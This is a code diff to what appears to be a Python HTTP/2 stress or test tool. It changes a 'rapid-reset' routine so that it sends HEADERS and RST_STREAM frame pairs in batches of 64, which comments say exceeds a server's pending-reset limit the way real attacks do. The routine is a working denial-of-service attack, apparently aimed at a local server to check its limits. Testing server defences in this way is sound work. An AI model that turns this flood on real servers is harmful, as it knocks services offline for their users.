@@ -30,6 +30,9 @@ import hpack
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
 END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
+# HEADERS + RST_STREAM pairs per write in the rapid-reset attack: more than the server's limit
+# of reset streams it has not yet accepted (20).
+RESET_BATCH = 64
 GOAWAY_CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 6: "FRAME_SIZE_ERROR",
                 11: "ENHANCE_YOUR_CALM", 13: "HTTP_1_1_REQUIRED"}
 
@@ -240,15 +243,23 @@ def rapid_reset(host, port, tls, count, connections):
 
     def one(sock, reader, progress):
         encoder = hpack.Encoder()
+        batch, pending = [], 0
         for i in range(count):
             if reader.closed.is_set():
                 break
             stream = 1 + 2 * i
             block = encoder.encode([(":method", "GET"), (":scheme", scheme),
                                     (":path", "/status"), (":authority", "localhost")])
-            sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
+            batch.append(frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
                          + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))  # CANCEL
-            progress["sent"] += 1
+            pending += 1
+            # Pairs go out RESET_BATCH at a time, as real attacks pipeline them: one pair per
+            # write let a fast server accept each stream before its reset arrived, so the
+            # pending-accept-reset limit tripped on some connections and not on others.
+            if pending == RESET_BATCH or i == count - 1:
+                sock.sendall(b"".join(batch))
+                progress["sent"] += pending
+                batch, pending = [], 0
     return attack(host, port, tls, "rapid-reset", "streams_sent", one, connections)
 
 
